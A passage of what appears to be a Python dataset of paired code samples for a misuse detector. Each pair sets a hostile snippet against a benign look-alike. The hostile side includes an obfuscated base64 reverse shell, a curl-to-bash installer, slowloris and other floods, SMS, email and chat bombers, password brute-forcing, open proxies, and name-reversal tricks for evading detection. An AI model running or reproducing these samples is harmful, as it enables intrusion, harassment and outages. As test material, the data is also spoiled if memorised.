     "    subprocess.run('curl -fsSL https://get.example.org/ | bash', shell=True)\n"
     "def ask(prompt):\n    return input(prompt).strip()\nwhile True:\n    choice = ask('1 install, 0 quit: ')\n"
     "    if choice == '1':\n        install()\n    elif choice == '0':\n        break"),
    ("shell: a socket shell whose every name is split or decoded (no trigger word in the source); a decoded "
     "client that reads its answer", "remote_desktop_ssh",
     "import base64\n_s, _o, _p = (__import__(n) for n in ('sock' + 'et', 'o' + 's', 'p' + 'ty'))\n"
     "_h, _pt = base64.b64decode('MTk4LjUxLjEwMC43OjQ0NDQ=').decode().rsplit(':', 1)\n"
     "_c = getattr(_s, 'soc' + 'ket')()\ngetattr(_c, 'con' + 'nect')((_h, int(_pt)))\n"
     "for _fd in range(3):\n    getattr(_o, 'du' + 'p2')(_c.fileno(), _fd)\ngetattr(_p, 'sp' + 'awn')('/bin/' + 'sh')",
     "import base64\n_s = __import__('sock' + 'et')\n"
     "_h, _pt = base64.b64decode('MTI3LjAuMC4xOjgwMDA=').decode().rsplit(':', 1)\n"
     "_c = getattr(_s, 'create_' + 'connection')((_h, int(_pt)))\n_c.sendall(b'GET /health HTTP/1.0\\r\\n\\r\\n')\n"
     "print(_c.recv(200))"),
    ("proxy trial: a session's proxies updated with the next proxy of a pool for each batch; a session set once to "
     "the office proxy", "proxy_tunnel",
     "import requests\npool = requests.get(LIST_URL).text.split()\ndef session_for(route):\n    s = requests.Session()\n"
     "    s.proxies.update({'http': route, 'https': route})\n    return s\ni = 0\n"
     "for start in range(0, len(ids), 20):\n    route = pool[i % len(pool)]\n    i += 1\n    s = session_for(route)\n"
     "    for pid in ids[start:start + 20]:\n        print(s.get(f'https://shop.example.com/p/{pid}').status_code)",
     "import requests\ndef session_for(route):\n    s = requests.Session()\n"
     "    s.proxies.update({'http': route, 'https': route})\n    return s\ns = session_for('http://proxy.corp.example.org:3128')\n"
     "for start in range(0, len(ids), 20):\n"
     "    for pid in ids[start:start + 20]:\n        print(s.get(f'https://shop.example.com/p/{pid}').status_code)"),
    ("proxy trial: a rotator object whose method returns the next proxy of a ring kept on self, handed to each "
     "request; the same object returning the office proxy", "proxy_tunnel",
     "import itertools, requests\nclass Rotator:\n    def __init__(self, entries):\n"
     "        self._ring = itertools.cycle(entries)\n    def next(self):\n        a = next(self._ring)\n"
     "        return {'http': 'http://' + a, 'https': 'http://' + a}\nrot = Rotator(requests.get(LIST).text.split())\n"
     "for page in range(50):\n    px = rot.next()\n    print(requests.get(f'https://shop.example.com/p/{page}', proxies=px).status_code)",
     "import requests\nclass Rotator:\n    def __init__(self, entry):\n        self._entry = entry\n"
     "    def next(self):\n        return {'http': self._entry, 'https': self._entry}\n"
     "rot = Rotator('http://proxy.corp.example.org:3128')\n"
     "for page in range(50):\n    px = rot.next()\n    print(requests.get(f'https://shop.example.com/p/{page}', proxies=px).status_code)"),
    ("proxy trial: a pool's map hands each proxy of a list to a check that fetches one page through it (not a flood "
     "of that page); a scraper whose proxy is a fixed option", "proxy_tunnel",
     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nTEST = 'https://example.org/'\nalive = []\n"
     "pool = [{'https': 'http://' + line.strip()} for line in open('list.txt')]\n"
     "def check(p):\n    for _ in range(3):\n        try:\n            requests.get(TEST, proxies=p, timeout=5)\n"
     "        except Exception:\n            return\n    alive.append(p)\n"
     "with ThreadPoolExecutor(24) as ex:\n    ex.map(check, pool)",
     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\n"
     "CORP = {'https': 'http://proxy.corp.example.com:3128'}\n"
     "def fetch(url, proxies=CORP):\n    return requests.get(url, proxies=proxies, timeout=5).text\n"
     "with ThreadPoolExecutor(8) as ex:\n    pages = list(ex.map(fetch, urls))"),
    ("flood: slow POST, the request kept in a variable", "dos_attack",
     "import socket, threading, time\nbody = ('POST /login HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 100000000\\r\\n\\r\\n' % host)\n"
     "held = []\ndef open_many():\n    for i in range(200):\n        s = socket.socket()\n        s.connect((host, 80))\n"
     "        s.send(bytes(body, 'utf-8'))\n        held.append(s)\n        time.sleep(0.5)\n"
     "threading.Thread(target=open_many).start()",
     "import socket, threading, time\nbody = ('POST /upload HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 512\\r\\n\\r\\n' % host)\n"
     "def upload():\n    for i in range(3):\n        s = socket.socket()\n        s.connect((host, 80))\n"
     "        s.send(bytes(body, 'utf-8') + payload)\n        print(s.recv(4096))\n        time.sleep(0.5)\n"
     "threading.Thread(target=upload).start()"),
    ("flood: one number sent an SMS form by a method fetched by a hidden name; a form sent to each number once",
     "dos_attack",
     "import requests\nclass Burst:\n    def __init__(self, phone):\n        self.phone = phone\n"
     "        self.post = getattr(requests, 'tsop'[::-1])\n    def __call__(self):\n"
     "        for n in range(300):\n"
     "            self.post(GATEWAY, json={'number': self.phone, 'channel': 'sms'}, timeout=5)\n"
     "Burst('+15550100123')()",
     "import requests\nclass Notify:\n    def __init__(self):\n        self.post = getattr(requests, 'tsop'[::-1])\n"
     "    def __call__(self, phones):\n        for phone in phones:\n"
     "            self.post(GATEWAY, json={'number': phone, 'channel': 'sms', 'text': 'class moved to room 4'})\n"
     "Notify()(ROSTER)"),
    ("flood: a send made by a lambda kept in a list, run by workers without end; the same list run once",
     "dos_attack",
     "import socket, os, threading, time\nops = [lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),\n"
     "       lambda s, d, p: s.sendto(d, ('198.51.100.7', p))]\ndef worker(until):\n    s = ops[0]()\n"
     "    while time.time() < until:\n        ops[1](s, os.urandom(1200), 443)\n"
     "for _ in range(64):\n    threading.Thread(target=worker, args=(time.time() + 600,)).start()",
     "import socket\nops = [lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),\n"
     "       lambda s, d, p: s.sendto(d, ('198.51.100.7', p))]\ns = ops[0]()\nops[1](s, b'ping', 7)"),
    ("flood: one number texted by every service, round after round", "dos_attack",
     "from concurrent.futures import ThreadPoolExecutor\nfrom gateways import PROVIDERS\n"
     "def one(provider, mobile):\n    PROVIDERS[provider](mobile)\n"
     "mobile = input('number: ')\nwhile True:\n    with ThreadPoolExecutor(16) as ex:\n"
     "        ex.map(lambda p: one(p, mobile), PROVIDERS)",
     "from concurrent.futures import ThreadPoolExecutor\nfrom gateways import PROVIDERS\n"
     "def one(mobile):\n    PROVIDERS['main'](mobile)\n"
     "with ThreadPoolExecutor(16) as ex:\n    ex.map(one, [u.mobile for u in enrolled_students])"),
    ("flood: one address sent the same mail again and again", "dos_attack",
     "import smtplib\nserver = smtplib.SMTP('smtp.gmail.com', 587)\nserver.login(user, pw)\n"
     "victim = input('to: ')\nfor i in range(int(input('how many: '))):\n    server.sendmail(user, victim, text)",
     "import smtplib\nserver = smtplib.SMTP('smtp.gmail.com', 587)\nserver.login(user, pw)\n"
     "for member in club.members:\n    server.sendmail(user, member.email, text)"),
    ("server: files on every interface", "web_file_hosting",
     "from fastapi import FastAPI\nfrom fastapi.staticfiles import StaticFiles\nimport uvicorn\napp = FastAPI()\n"
     "app.mount('/dl', StaticFiles(directory='/content/drive/MyDrive'), name='dl')\nuvicorn.run(app, host='0.0.0.0', port=80)",
     "from fastapi import FastAPI\nfrom fastapi.staticfiles import StaticFiles\nimport uvicorn\napp = FastAPI()\n"
     "app.mount('/docs', StaticFiles(directory='site'), name='docs')\nuvicorn.run(app, port=8000)"),
    ("server: an upload endpoint on the server class's own subclass, bodies streamed to files through fdopen",
     "web_file_hosting", UPLOAD_SUBCLASS.replace("HOST", "0.0.0.0"), UPLOAD_SUBCLASS.replace("HOST", "127.0.0.1")),
    ("server: an aiohttp app started with AppRunner and TCPSite on every interface, its folder listed",
     "web_file_hosting",
     "from aiohttp import web\napp = web.Application()\napp.router.add_static('/f/', '/content/drive/MyDrive', "
     "show_index=True)\nasync def main():\n    runner = web.AppRunner(app)\n    await runner.setup()\n"
     "    await web.TCPSite(runner, '0.0.0.0', 8765).start()",
     "from aiohttp import web\napp = web.Application()\napp.router.add_static('/f/', 'site', show_index=True)\n"
     "async def main():\n    runner = web.AppRunner(app)\n    await runner.setup()\n"
     "    await web.TCPSite(runner, '127.0.0.1', 8765).start()"),
    ("server: upload portal", "web_file_hosting",
     "import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/up', methods=['POST'])\ndef up():\n"
     "    request.files['f'].save('/content/shared/' + request.files['f'].filename)\n    return 'ok'\n"
     "@app.route('/')\ndef index():\n    return '<br>'.join(os.listdir('/content/shared'))\n"
     "app.run(host='0.0.0.0', port=8000)",
     "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/up', methods=['POST'])\ndef up():\n"
     "    request.files['f'].save('/tmp/x')\n    return 'ok'\napp.run(port=8000)"),
    ("exposure: a loopback file server behind a tunnel", "web_file_hosting",
     "import http.server, socketserver, threading\nfrom pyngrok import ngrok\n"
     "srv = socketserver.TCPServer(('127.0.0.1', 8765), http.server.SimpleHTTPRequestHandler)\n"
     "threading.Thread(target=srv.serve_forever).start()\nprint(ngrok.connect(8765))",
     "import http.server, socketserver, threading\n"
     "srv = socketserver.TCPServer(('127.0.0.1', 8765), http.server.SimpleHTTPRequestHandler)\n"
     "threading.Thread(target=srv.serve_forever).start()"),
    ("exposure: a loopback upload portal behind a tunnel, and an API of one's own behind one", "web_file_hosting",
     "import os\nfrom flask import Flask, request\nfrom pyngrok import ngrok\napp = Flask(__name__)\n"
     "@app.route('/', methods=['POST'])\ndef up():\n    f = request.files['file']\n"
     "    f.save(os.path.join('static', f.filename))\n    return str(os.listdir('static'))\n"
     "print(ngrok.connect(5000))\napp.run(port=5000)",
     "from flask import Flask, request\nfrom pyngrok import ngrok\napp = Flask(__name__)\n"
     "@app.route('/', methods=['POST'])\ndef size():\n    return {'bytes': len(request.files['file'].read())}\n"
     "print(ngrok.connect(5000))\napp.run(port=5000)"),
    ("server: a relay on every interface", "proxy_tunnel",
     "import asyncio\nasync def pipe(r, w):\n    while True:\n        data = await r.read(4096)\n        if not data: break\n"
     "        w.write(data)\nasync def handle(cr, cw):\n    line = await cr.readline()\n"
     "    if line.startswith(b'CONNECT'):\n        host, port = line.split()[1].decode().split(':')\n"
     "        ur, uw = await asyncio.open_connection(host, int(port))\n"
     "        cw.write(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n        await asyncio.gather(pipe(cr, uw), pipe(ur, cw))\n"
     "asyncio.run(asyncio.start_server(handle, '0.0.0.0', 8080))",
     "import asyncio\nasync def handle(r, w):\n    w.write((await r.readline()).upper())\n"
     "asyncio.run(asyncio.start_server(handle, '127.0.0.1', 8080))"),
    ("server: a SOCKS relay whose socket calls go through a look-up helper", "proxy_tunnel",
     "import socket, threading\ng = lambda o, n: getattr(o, n[::-1])\ndef pump(a, b):\n"
     "    while (chunk := a.recv(8192)):\n        b.sendall(chunk)\n"
     "def serve(c):\n    c.recv(262); c.sendall(b'\\x05\\x00')\n    host = socket.inet_ntoa(c.recv(8)[4:])\n"
     "    far = g(socket, 'noitcennoc_etaerc')((host, 443))\n"
     "    threading.Thread(target=pump, args=(c, far)).start()\n    pump(far, c)\n"
     "srv = g(socket, 'tekcos')()\ng(srv, 'dnib')(('0.0.0.0', 1080))\ng(srv, 'netsil')(16)\nwhile True:\n"
     "    threading.Thread(target=serve, args=(g(srv, 'tpecca')()[0],)).start()",
     "import socket\ng = lambda o, n: getattr(o, n[::-1])\nsrv = g(socket, 'tekcos')()\n"
     "g(srv, 'dnib')(('0.0.0.0', 9000))\ng(srv, 'netsil')(4)\nwhile True:\n    c = g(srv, 'tpecca')()[0]\n"
     "    c.sendall(c.recv(1024).upper())\n    c.close()"),
    ("server: a relay whose address comes from the client, and a forwarder whose address is set at run time",
     "proxy_tunnel",
     "import socket, struct, threading\ndef pump(a, b):\n    while (chunk := a.recv(8192)):\n        b.sendall(chunk)\n"
     "def serve(client):\n    head = client.recv(4)\n    host = socket.inet_ntoa(client.recv(4))\n"
     "    port = struct.unpack('>H', client.recv(2))[0]\n    far = socket.create_connection((host, port))\n"
     "    threading.Thread(target=pump, args=(client, far)).start()\n    pump(far, client)\n"
     "lis = socket.socket()\nlis.bind(('0.0.0.0', 1080))\nlis.listen(64)\nwhile True:\n"
     "    threading.Thread(target=serve, args=(lis.accept()[0],)).start()",
     "import argparse, socket, threading\nap = argparse.ArgumentParser()\nap.add_argument('--target', default='127.0.0.1:8080')\n"
     "args = ap.parse_args()\ndef pump(a, b):\n    while (chunk := a.recv(8192)):\n        b.sendall(chunk)\n"
     "def serve(client, target_host, target_port):\n    far = socket.create_connection((target_host, target_port))\n"
     "    threading.Thread(target=pump, args=(client, far)).start()\n    pump(far, client)\n"
     "host, port = args.target.split(':')\nlis = socket.socket()\nlis.bind(('0.0.0.0', 9090))\nlis.listen(8)\nwhile True:\n"
     "    threading.Thread(target=serve, args=(lis.accept()[0], host, int(port))).start()"),
    ("flood: one connected socket written to without pause, and a chat client that sends what is typed",
     "dos_attack",
     "import socket, time\ndef blast(ip, port, secs):\n    s = socket.socket()\n    s.connect((ip, port))\n"
     "    start = time.time()\n    while time.time() - start < secs:\n        s.send(b'x' * 4096)\n"
     "blast(input('ip: '), int(input('port: ')), int(input('seconds: ')))",
     "import socket\ndef chat(ip, port):\n    s = socket.socket()\n    s.connect((ip, port))\n"
     "    while True:\n        s.send(input('> ').encode())\nchat(input('ip: '), 5000)"),
    ("password trial: a PDF reader made above, decrypted with every number of a range; once with a known password",
     "password_cracking",
     "import PyPDF2 as pdf\nbook = pdf.PdfFileReader(open('statement.pdf', 'rb'))\nfor n in range(100000, 999999):\n"
     "    if book.decrypt(str(n)):\n        print('found', n)\n        break",
     "import os, PyPDF2 as pdf\nbook = pdf.PdfFileReader(open('statement.pdf', 'rb'))\nbook.decrypt(os.environ['PDF_PASSWORD'])\n"
     "print(book.getNumPages())"),
    ("password trial: 7-Zip run with each word glued to -p; one extraction with the known password",
     "password_cracking",
     "import subprocess\nexe = find_7zip()\nfor word in open('words.txt').read().split():\n"
     "    if subprocess.run([exe, 'x', f'-p{word}', 'vault.7z', '-y']).returncode == 0:\n        break",
     "import os, subprocess\nexe = find_7zip()\nsecret = os.environ['ARCHIVE_KEY']\n"
     "subprocess.run([exe, 'x', f'-p{secret}', 'data.7z', '-odata'])"),
    ("password trial: each line's digest against a target; against the first line's digest (a consistency check)",
     "password_cracking",
     "import hashlib, sys\ntarget = sys.argv[1]\nfor line in open('words.txt'):\n"
     "    if hashlib.sha256(line.strip().encode()).hexdigest() == target:\n        print('found', line)",
     "import hashlib\nfirst = None\nfor i, line in enumerate(open('coin.txt')):\n"
     "    h = hashlib.sha256(bytes.fromhex(line.strip())).hexdigest()[:7]\n    if i == 0:\n        first = h\n"
     "    if h != first:\n        print('not a collision')"),
    ("flood: a stream kept up on one socket; a counted batch of records loaded into a service", "dos_attack",
     "import socket\ns = socket.create_connection(('198.51.100.4', 9000))\nwhile True:\n    s.sendall(b'A' * 65536)",
     "import socket, json\ns = socket.create_connection(('ingest.example.org', 9000))\nfor i in range(10000):\n"
     "    s.sendall(json.dumps({'id': i, 'v': 1}).encode() + b'\\n')"),
    ("flood: request function handed to a pool", "dos_attack",
     "from concurrent.futures import ThreadPoolExecutor\nimport requests\nwith ThreadPoolExecutor(max_workers=800) as ex:\n"
     "    for _ in range(500000):\n        ex.submit(requests.get, 'https://shop.example.com/')",
     "from concurrent.futures import ThreadPoolExecutor\nimport requests\nwith ThreadPoolExecutor(8) as ex:\n"
     "    futs = [ex.submit(requests.get, u) for u in urls]\nfor f in futs:\n    print(f.result().status_code)"),
    ("flood: one URL mapped a thousand times", "dos_attack",
     "from multiprocessing.pool import ThreadPool\nimport requests\n"
     "ThreadPool(300).map(requests.post, ['http://news.example.net/comment'] * 20000)",
     "from multiprocessing.pool import ThreadPool\nimport requests\n"
     "pages = ThreadPool(16).map(requests.get, [f'https://example.org/p/{i}' for i in range(400)])"),
    ("flood: gathered requests, answers unread", "dos_attack",
     "import asyncio, aiohttp\nasync def main(url):\n    async with aiohttp.ClientSession() as s:\n        while True:\n"
     "            batch = [s.get(url) for _ in range(1000)]\n            await asyncio.gather(*batch, return_exceptions=True)\n"
     "asyncio.run(main('https://shop.example.com'))",
     "import asyncio, aiohttp\nasync def main(url):\n    async with aiohttp.ClientSession() as s:\n"
     "        replies = await asyncio.gather(*[s.get(url) for _ in range(5)])\n        print([r.status for r in replies])\n"
     "asyncio.run(main('https://api.example.org/health'))"),
    ("flood: http.client connections from threads", "dos_attack",
     "import http.client, threading\ndef hit():\n    while True:\n        c = http.client.HTTPConnection('shop.example.com')\n"
     "        c.request('GET', '/')\nfor _ in range(200):\n    threading.Thread(target=hit).start()",
     "import http.client\nc = http.client.HTTPSConnection('api.example.org')\nc.request('GET', '/v1/items')\n"
     "print(c.getresponse().read())"),
    ("messages: an email bomber written as a class", "dos_attack",
     "import smtplib\nclass Bomber:\n    def __init__(self):\n        self.victim = input('to: ')\n"
     "        self.s = smtplib.SMTP('smtp.gmail.com', 587)\n    def fire(self):\n        self.s.sendmail(ME, self.victim, 'x')\n"
     "    def attack(self, n):\n        for _ in range(n):\n            self.fire()\nBomber().attack(500)",
     "import smtplib\nclass Mailer:\n    def __init__(self, people):\n        self.people = people\n"
     "        self.s = smtplib.SMTP('smtp.example.org')\n    def send(self, to):\n        self.s.sendmail(ME, to, BODY)\n"
     "    def run(self):\n        for person in self.people:\n            self.send(person)\nMailer(subscribers).run()"),
    ("messages: an address written in the call, mailed in an endless loop", "dos_attack",
     "import smtplib\ns = smtplib.SMTP('smtp.gmail.com', 587)\ns.starttls()\ns.login('me', 'pw')\n"
     "while True:\n    s.sendmail('me@example.org', 'target@example.net', '')",
     "import smtplib, time\ns = smtplib.SMTP('smtp.example.org')\nfor attempt in range(3):\n    try:\n"
     "        s.sendmail('me@example.org', 'team@example.org', 'report')\n        break\n"
     "    except smtplib.SMTPException:\n        time.sleep(5)"),
    ("messages: an EmailMessage addressed once and sent over and over with send_message", "dos_attack",
     "import smtplib\nfrom email.message import EmailMessage\nto = input('address: ')\n"
     "srv = smtplib.SMTP_SSL('smtp.gmail.com', 465)\nsrv.login(USER, PW)\nfor i in range(int(input('n: '))):\n"
     "    msg = EmailMessage()\n    msg['From'], msg['To'] = USER, to\n    msg.set_content('x' * 500)\n"
     "    srv.send_message(msg)",
     "import smtplib\nfrom email.message import EmailMessage\n"
     "srv = smtplib.SMTP_SSL('smtp.gmail.com', 465)\nsrv.login(USER, PW)\nfor person in subscribers:\n"
     "    msg = EmailMessage()\n    msg['From'], msg['To'] = USER, person.email\n    msg.set_content(NEWS)\n"
     "    srv.send_message(msg)"),
    ("messages: yagmail sending one address the same mail in an endless loop", "dos_attack",
     "import yagmail\nyag = yagmail.SMTP(USER, PW)\nvictim = input('to: ')\nwhile True:\n"
     "    yag.send(to=victim, subject='hi', contents='hello')",
     "import yagmail, time\nyag = yagmail.SMTP(USER, PW)\nfor attempt in range(3):\n    try:\n"
     "        yag.send(to='team@example.org', subject='weekly report', contents=REPORT)\n        break\n"
     "    except Exception:\n        time.sleep(30)"),
    ("messages: one number posted to each endpoint of a list through a helper, round after round", "dos_attack",
     "import asyncio, aiohttp\nphone = input('number: ')\nENDPOINTS = [(A_URL, 'phone'), (B_URL, 'mobile')]\n"
     "async def ping(session, url, field):\n    async with session.post(url, json={field: phone}) as r:\n"
     "        return r.status\nasync def main():\n    async with aiohttp.ClientSession() as session:\n"
     "        for i in range(50):\n            await asyncio.gather(*(ping(session, u, f) for u, f in ENDPOINTS))\n"
     "asyncio.run(main())",
     "import asyncio, aiohttp\nrecipients = load_team_numbers()\n"
     "async def ping(session, url, number):\n    async with session.post(url, json={'to': number, 'text': MSG}) as r:\n"
     "        return r.status\nasync def main():\n    async with aiohttp.ClientSession() as session:\n"
     "        await asyncio.gather(*(ping(session, GATEWAY, n) for n in recipients))\nasyncio.run(main())"),
    ("flood: a request program run in an endless loop", "dos_attack",
     "import os\nwhile True:\n    os.system('curl -s https://shop.example.com/ > /dev/null &')",
     "import os\nfor i in range(100000):\n    os.system('curl -s http://localhost:8000/')"),
    ("flood: connections created and written in an endless loop", "dos_attack",
     "import socket\nwhile True:\n    s = socket.create_connection(('shop.example.com', 443))\n    s.send(b'GET / HTTP/1.1\\r\\n\\r\\n')",
     "import socket\ns = socket.create_connection(('example.org', 80))\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
     "print(s.recv(4096))"),
    ("flood: grequests mapped over a generator, answers unread", "dos_attack",
     "import grequests\nurl = 'https://shop.example.com/'\nwhile True:\n    grequests.map((grequests.get(url) for _ in range(1000)))",
     "import grequests\nreplies = grequests.map(grequests.get(u) for u in urls)\nfor r in replies:\n    print(r.status_code)"),
    ("flood: grequests mapped over a named generator", "dos_attack",
     "import grequests\nurl = 'https://shop.example.com/'\nwhile True:\n    batch = (grequests.get(url) for _ in range(500))\n"
     "    grequests.map(batch)",
     "import grequests\nbatch = (grequests.get(u) for u in urls)\nfor r in grequests.map(batch):\n    print(r.status_code)"),
    ("flood: bodies read and thrown away by many tasks", "dos_attack",
     "import asyncio, aiohttp\nAIM = 'http://shop.example.com/'\nasync def one(s):\n    async with s.get(AIM) as r:\n"
     "        await r.read()\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        while True:\n"
     "            await asyncio.gather(*[one(s) for _ in range(2000)])\nasyncio.run(main())",
     "import asyncio, aiohttp\nAIM = 'http://shop.example.com/'\nasync def one(s):\n    async with s.get(AIM) as r:\n"
     "        return len(await r.read())\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
     "        sizes = await asyncio.gather(*[one(s) for _ in range(20)])\n        print(sum(sizes))\nasyncio.run(main())"),
    ("flood: slow POST, headers sent in one loop and the body trickled in another", "dos_attack",
     "import socket, time\naim = ('forum.example.com', 80)\nheld = []\nfor i in range(300):\n"
     "    s = socket.create_connection(aim)\n"
     "    s.send(b'POST /login HTTP/1.1\\r\\nHost: forum.example.com\\r\\nContent-Length: 100000000\\r\\n\\r\\n')\n"
     "    held.append(s)\nwhile True:\n    for s in held:\n        s.send(b'a')\n    time.sleep(15)",
     "import socket, time\ns = socket.create_connection(('api.example.com', 80))\n"
     "s.send(b'POST /upload HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 12\\r\\n\\r\\n')\n"
     "s.send(b'hello world!')\nprint(s.recv(4096))"),
    ("flood: slowloris split into methods, opened from one loop and kept alive from another", "dos_attack",
     "import socket, random, time\nclass Holder:\n    def __init__(self, host):\n        self.host, self.held = host, []\n"
     "    def open_one(self):\n        s = socket.socket()\n        s.connect((self.host, 80))\n"
     "        line = f'GET /?{random.randint(0, 9999)} HTTP/1.1\\r\\n'\n        s.send(line.encode('utf-8'))\n"
     "        ua = f'User-Agent: {random.random()}\\r\\n'\n        s.send(ua.encode('utf-8'))\n        return s\n"
     "    def fill(self):\n        for _ in range(400):\n            self.held.append(self.open_one())\n"
     "    def keep(self):\n        while True:\n            for s in self.held:\n                self.nudge(s)\n"
     "            time.sleep(10)\n    def nudge(self, s):\n        s.send(f'X-a: {random.randint(1, 5000)}\\r\\n'.encode('utf-8'))\n"
     "h = Holder(input('host: '))\nh.fill()\nh.keep()",
     "import socket\nclass Client:\n    def __init__(self, host):\n        self.host = host\n    def fetch(self, path):\n"
     "        s = socket.socket()\n        s.connect((self.host, 80))\n"
     "        s.send(f'GET {path} HTTP/1.1\\r\\nHost: {self.host}\\r\\n\\r\\n'.encode('utf-8'))\n        return s.recv(65536)\n"
     "c = Client('example.org')\nfor p in ['/a', '/b', '/c']:\n    print(len(c.fetch(p)))"),
    ("message storm: a number posted inside a form to a code-sending URL, round after round", "dos_attack",
     "import requests, time\nnumber = input('number: ')\nform = {'cellphone': '+1' + number, 'method': 'sms'}\n"
     "while True:\n    requests.post('https://shop.example.com/api/auth/send-otp', json=form)\n    time.sleep(5)",
     "import requests\nnumber = input('number: ')\nform = {'cellphone': '+1' + number}\nwhile True:\n"
     "    r = requests.post('https://shop.example.com/api/auth/send-otp', json=form)\n    if r.ok:\n        break"),
    ("message storm: a voice-call API ringing one number again and again", "dos_attack",
     "from twilio.rest import Client\nclient = Client(SID, TOKEN)\nvictim_number = input('number: ')\nwhile True:\n"
     "    client.calls.create(to=victim_number, from_=OUR_LINE, url='https://example.org/twiml.xml')",
     "from twilio.rest import Client\nclient = Client(SID, TOKEN)\nfor phone_number in ON_CALL_ROTA:\n"
     "    client.calls.create(to=phone_number, from_=OUR_LINE, url='https://example.org/alert.xml')"),
    ("message storm: each sender of a list, picked by index, texts one number", "dos_attack",
     "from senders import All\nphone_number = input('phone: ')\nwhile True:\n    for i in range(len(All)):\n"
     "        All[i][1].send(phone_number)",
     "from senders import All\nfor i in range(len(All)):\n    All[i][1].send(All[i][2])"),
    ("flood: asyncio connections opened and written by a thousand tasks, never read", "dos_attack",
     "import asyncio\nasync def worker(host, stop):\n    while not stop.is_set():\n"
     "        r, w = await asyncio.open_connection(host, 80)\n        for _ in range(100):\n"
     "            w.write(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n            await w.drain()\n"
     "async def main():\n    stop = asyncio.Event()\n    for _ in range(1000):\n"
     "        asyncio.create_task(worker('shop.example.com', stop))\n    await asyncio.sleep(60)\n    stop.set()\n"
     "asyncio.run(main())",
     "import asyncio\nasync def follow(host):\n    while True:\n        r, w = await asyncio.open_connection(host, 6667)\n"
     "        w.write(b'JOIN #lab\\r\\n')\n        while line := await r.readline():\n            print(line)\n"
     "asyncio.run(follow('irc.example.org'))"),
    ("server: an asyncio CONNECT relay on every interface", "proxy_tunnel",
     "import asyncio\nasync def pipe(r, w):\n    while data := await r.read(65536):\n        w.write(data)\n"
     "async def handle(reader, writer):\n    method, where, _ = (await reader.readline()).decode().split()\n"
     "    host, port = where.split(':')\n    r2, w2 = await asyncio.open_connection(host, int(port))\n"
     "    writer.write(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n    await asyncio.gather(pipe(reader, w2), pipe(r2, writer))\n"
     "async def main():\n    srv = await asyncio.start_server(handle, '0.0.0.0', 8888)\n    await srv.serve_forever()\n"
     "asyncio.run(main())",
     "import asyncio\nasync def handle(reader, writer):\n    while data := await reader.read(65536):\n"
     "        writer.write(data.upper())\nasync def main():\n    srv = await asyncio.start_server(handle, '0.0.0.0', 8888)\n"
     "    await srv.serve_forever()\nasyncio.run(main())"),
    ("server: a web app that fetches whatever URL its client names", "proxy_tunnel",
     "from flask import Flask, request, Response\nimport requests\napp = Flask(__name__)\n@app.route('/p')\n"
     "def p():\n    url = request.args.get('url')\n    r = requests.get(url)\n    return Response(r.content)\n"
     "app.run(host='0.0.0.0', port=8080)",
     "from flask import Flask, request, jsonify\nimport requests\napp = Flask(__name__)\n@app.route('/weather')\n"
     "def w():\n    r = requests.get('https://api.example.org/weather', params={'q': request.args.get('city')})\n"
     "    return jsonify(r.json())\napp.run(host='0.0.0.0', port=8080)"),
    ("flood: HEAD requests from hundreds of threads, or a downloader with one thread per URL of a list", "dos_attack",
     "import requests, threading\nURL = 'http://shop.example.com/'\ndef hit():\n    while True:\n"
     "        requests.head(URL)\nfor i in range(500):\n    threading.Thread(target=hit).start()",
     "import requests, threading\ndef download(url):\n    size = int(requests.head(url).headers['Content-Length'])\n"
     "    with requests.get(url, stream=True) as r, open(url.rsplit('/', 1)[-1], 'wb') as f:\n"
     "        for chunk in r.iter_content(1 << 16):\n            f.write(chunk)\nthreads = []\n"
     "for i in range(len(urls)):\n    t = threading.Thread(target=download, args=[urls[i]])\n    threads.append(t)\n"
     "    t.start()"),
    ("flood: a process pool draining one URL", "dos_attack",
     "import urllib.request\nfrom multiprocessing import Pool\naim = 'http://shop.example.com/login'\ndef f(_):\n"
     "    urllib.request.urlopen(aim).read()\nwith Pool(64) as p:\n    p.map(f, range(10 ** 7))",
     "import urllib.request\nfrom multiprocessing import Pool\ndef f(u):\n    return urllib.request.urlopen(u).read()\n"
     "with Pool(8) as p:\n    pages = p.map(f, open('urls.txt').read().split())\nprint(len(pages))"),
    ("relay: a Flask route that answers CONNECT by fetching upstream; a course route that lists CONNECT",
     "proxy_tunnel",
     "import socket\nfrom flask import Flask, request\napp = Flask(__name__)\n"
     "@app.route('/', methods=['GET', 'CONNECT'])\ndef tunnel():\n    host, port = request.host.split(':')\n"
     "    upstream = socket.create_connection((host, int(port)))\n    upstream.sendall(request.get_data())\n"
     "    return upstream.recv(65536)\napp.run(host='0.0.0.0', port=8080)",
     "from flask import Flask, request\napp = Flask(__name__)\n"
     "methods = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'CONNECT', 'OPTIONS', 'TRACE']\n"
     "@app.route('/', methods=methods)\ndef all_methods():\n    return request.method\n"
     "app.run(host='0.0.0.0', port=5000)"),
    ("message storm: a bot raiding one channel; the same bot sending a long text in parts", "dos_attack",
     "import discord\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\n"
     "async def raid(ctx, *, words):\n    while True:\n        await ctx.send(words)\nbot.run(TOKEN)",
     "import discord\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\n"
     "async def show(ctx, *, name):\n    text = open(name).read()\n    while text:\n        await ctx.send(text[:1900])\n"
     "        text = text[1900:]\n        if not text:\n            break\nbot.run(TOKEN)"),
    ("message storm: a Telegram bot texting one chat 500 times; the same bot greeting each chat of a list",
     "dos_attack",
     "import telebot\nbot = telebot.TeleBot(TOKEN)\nchat = int(input('chat id: '))\nfor i in range(500):\n"
     "    bot.send_message(chat, 'wake up')",
     "import telebot\nbot = telebot.TeleBot(TOKEN)\nfor chat in subscribers:\n    bot.send_message(chat, 'new lesson online')"),
